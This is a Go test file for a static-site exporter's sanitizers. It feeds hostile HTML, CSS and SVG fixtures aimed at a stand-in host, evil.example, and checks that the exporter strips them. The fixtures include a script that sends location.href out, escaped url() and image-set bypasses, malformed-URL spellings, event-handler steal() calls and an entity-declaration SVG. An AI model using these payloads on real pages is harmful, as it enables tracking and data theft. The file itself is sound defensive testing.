package static

import (
	"context"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/chromedp/chromedp"

	"ferry/internal/archive"
	"ferry/internal/testkit/browser"
	"ferry/internal/testkit/packtest"
)

// TestNothingLeavesStatic exports every hostile page (browser.HostilePages)
// and opens each from file:// in chromium: the trap, a loopback listener
// standing for a server elsewhere, must see no connection at all, and no
// page may navigate away (issue 14, item 3: <img src="http:/\H/x">,
// image-set(), escaped url(), SVG scripts and loads reached it).
func TestNothingLeavesStatic(t *testing.T) {
	trap := browser.NewTrap(t)
	fs := fstest.MapFS{}
	for p, b := range browser.HostilePages(trap.Host()) {
		fs[p] = &fstest.MapFile{Data: []byte(b)}
	}
	r := packtest.Open(t, packtest.FS(t, fs, archive.Info{Channel: "hostile", Title: "hostile"}))
	dir := filepath.Join(t.TempDir(), "card")
	if _, err := Export(context.Background(), dir, []archive.Contents{r}, Options{}); err != nil {
		t.Fatal(err)
	}
	ctx := browser.New(t, 90*time.Second)
	var names []string
	for p := range browser.HostilePages(trap.Host()) {
		names = append(names, p)
	}
	sort.Strings(names)
	for _, p := range names {
		file := filepath.Join(dir, "hostile", p)
		if !strings.HasSuffix(p, ".svg") {
			file = strings.TrimSuffix(file, ".html") + ".html"
		}
		u := "file://" + filepath.ToSlash(file)
		wait := 250 * time.Millisecond
		if !strings.HasPrefix(p, "refresh") {
			wait = time.Second
		}
		if err := chromedp.Do(ctx, chromedp.Navigate(u), chromedp.Sleep(wait)); err != nil {
			t.Fatalf("%s: %v", p, err)
		}
		if loc, err := chromedp.Run(ctx, chromedp.Location()); err != nil || !strings.HasPrefix(loc, "file://") {
			t.Errorf("%s: the tab went to %s (%v)", p, loc, err)
		}
		if n, lines := trap.Hits(); n > 0 {
			t.Fatalf("after %s the trap was reached %d times: %q", p, n, lines)
		}
	}
}

// TestHostilePageDisarmed: a page opened from file:// has no content
// security policy, so the export drops what would run or load from outside
// by itself; local links and outside links a reader clicks stay.
func TestHostilePageDisarmed(t *testing.T) {
	page := `<!DOCTYPE html><html><head><base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=http://evil.example/?x">
<link rel="preconnect" href="//upload.example.org"><link rel="stylesheet" href="style.css">
<style>@import "http://evil.example/a.css"; body{background:url(http://evil.example/b.png)} p{background:url(img.png)}
.a{background:image-set("http://evil.example/is" 1x)} .b{background:\75 rl(http://evil.example/esc)} .c{behavior:url(x.htc)}</style>
<script>new Image().src="http://evil.example/?"+location.href</script></head>
<body onload="steal()"><img src="//evil.example/pixel" srcset="//evil.example/a 2x, img.png 1x"><img src="img.png" onerror="x()">
<img src="http:/\evil.example/1"><img src="http:\\evil.example/2"><img src="http:evil.example/3"><img src="ht&#9;tp://evil.example/4">
<iframe src="http://evil.example/"><p>inside</p></iframe><object data="http://evil.example/o"></object>
<noscript><img src="http://evil.example/noscript"></noscript><!--[if IE]><img src="http://evil.example/ie"><![endif]-->
<svg><style><img src="http://evil.example/svgstyle"></style><style>@import url(http://evil.example/svgimport);</style></svg>
<a href="http://example.org/more">more</a> <a href="javascript:steal()">js</a> <a href="other.html">other</a> <a href="\\evil.example\share">share</a>
<form action="http://evil.example/f"><input formaction="http://evil.example/g"></form>
<div style="background:url('//evil.example/c.png')">x</div></body></html>`
	link := func(u string) (string, bool) {
		if u == "style.css" || u == "img.png" || u == "other.html" {
			return "L-" + u, true
		}
		return "", false
	}
	got := string(rewriteHTML([]byte(page), link))
	for _, bad := range []string{"evil.example", "<script", "onload", "onerror", "<iframe", "<object", "<base", "refresh", "upload.example", "javascript:", "inside", "{behavior:"} {
		if strings.Contains(got, bad) {
			t.Errorf("%q left in:\n%s", bad, got)
		}
	}
	for _, good := range []string{`href="L-style.css"`, `src="L-img.png"`, `srcset="L-img.png 1x"`, `url("L-img.png")`, `href="http://example.org/more"`, `href="L-other.html"`} {
		if !strings.Contains(got, good) {
			t.Errorf("%q missing:\n%s", good, got)
		}
	}
}

// TestCSSTokens: the tokenizer reads escapes, url() spellings, strings in
// functions and @import as a browser does.
func TestCSSTokens(t *testing.T) {
	link := func(u string) (string, bool) {
		if u == "a.png" {
			return "files/a.png", true
		}
		return "", false
	}
	for in, want := range map[string]string{
		`p{background:url(a.png)}`:                             `p{background:url("files/a.png")}`,
		`p{background:url( "a.png" )}`:                         `p{background:url( "files/a.png" )}`,
		`p{background:\75 rl(http://h/x)}`:                     `p{background:url("")}`,
		`p{background:u\72l(//h/x)}`:                           `p{background:url("")}`,
		`p{background:URL(http://h/x)}`:                        `p{background:url("")}`,
		`p{background:image-set("http://h/x" 1x, "a.png" 2x)}`: `p{background:image-set("" 1x, "files/a.png" 2x)}`,
		`p{background:-webkit-image-set(url(//h) 1x)}`:         `p{background:-webkit-image-set(url("") 1x)}`,
		`@import "http://h/x.css"; p{}`:                        `@import ""; p{}`,
		`@import url(http://h/x.css);`:                         `@import url("");`,
		`p{content:"http://h/x"}`:                              `p{content:"http://h/x"}`,
		`p{background:url(http\3a //h/x)}`:                     `p{background:url("")}`,
		`p{width:expression(alert(1))}`:                        `p{width:x-expression(alert(1))}`,
		`p{-moz-binding:url(x.xml#b)}`:                         `p{x--moz-binding:url(x.xml#b)}`,
		`/* url(http://h/x) */ p{}`:                            `/* url(http://h/x) */ p{}`,
		`p{background:src("http://h/x")}`:                      `p{background:src("")}`,
	} {
		if got := string(rewriteCSS([]byte(in), link)); got != want {
			t.Errorf("rewriteCSS(%s)\n got %s\nwant %s", in, got, want)
		}
	}
}

// TestSVGSanitized: an SVG opened from file:// is a document; its
// scripts, loads and foreign content go.
func TestSVGSanitized(t *testing.T) {
	svg := `<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40">
<style>@import url(http://evil.example/i); rect{fill:url(a.png)}</style><script>alert(1)</script>
<image href="http://evil.example/1"/><image xlink:href="//evil.example/2"/><image href="a.png"/>
<rect width="10" height="10" onload="x()" fill="url(http://evil.example/f#g)"/><use href="#r"/>
<set attributeName="href" to="http://evil.example/s"/><foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><img src="http://evil.example/fo"/></div></foreignObject>
<a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`
	link := func(u string) (string, bool) {
		if u == "a.png" {
			return "files/a.png", true
		}
		return "", false
	}
	got := string(sanitizeSVG([]byte(svg), link))
	for _, bad := range []string{"evil.example", "<script", "onload", "foreignObject", "<set", "javascript:", "xml-stylesheet"} {
		if strings.Contains(got, bad) {
			t.Errorf("%q left in:\n%s", bad, got)
		}
	}
	for _, good := range []string{`href="files/a.png"`, `url(&#34;files/a.png&#34;)`, `href="#r"`, `<rect`} {
		if !strings.Contains(got, good) {
			t.Errorf("%q missing:\n%s", good, got)
		}
	}
	for _, bad := range []string{`<!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>`, `<svg><g></svg>`, "not xml <"} {
		if got := string(sanitizeSVG([]byte(bad), link)); got != emptySVG {
			t.Errorf("%q: %q, want the empty picture", bad, got)
		}
	}
}

// TestOutside checks the URL rules on the spellings browsers accept.
func TestOutside(t *testing.T) {
	for u, want := range map[string]bool{
		"http://h/x": true, "HTTP://h": true, "//h/x": true, `\\h\s`: true, `/\h/x`: true, `http:/\h/x`: true,
		`http:\\h/x`: true, "http:h/x": true, "ht\ttp://h/x": true, " http://h/x": true, "file://h/share": true,
		"ftp://h": true, "javascript:x": true, "a.png": false, "../a/b.png": false, "#x": false, "/root.png": false,
		"data:image/png;base64,AA": false, "a%20b.html": false, "img/x.png?v=2": false,
	} {
		if got := outside(u); got != want {
			t.Errorf("outside(%q) = %v, want %v", u, got, want)
		}
	}
}

// readFile reads a file of an export, failing the test if it is missing.
func readFile(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}
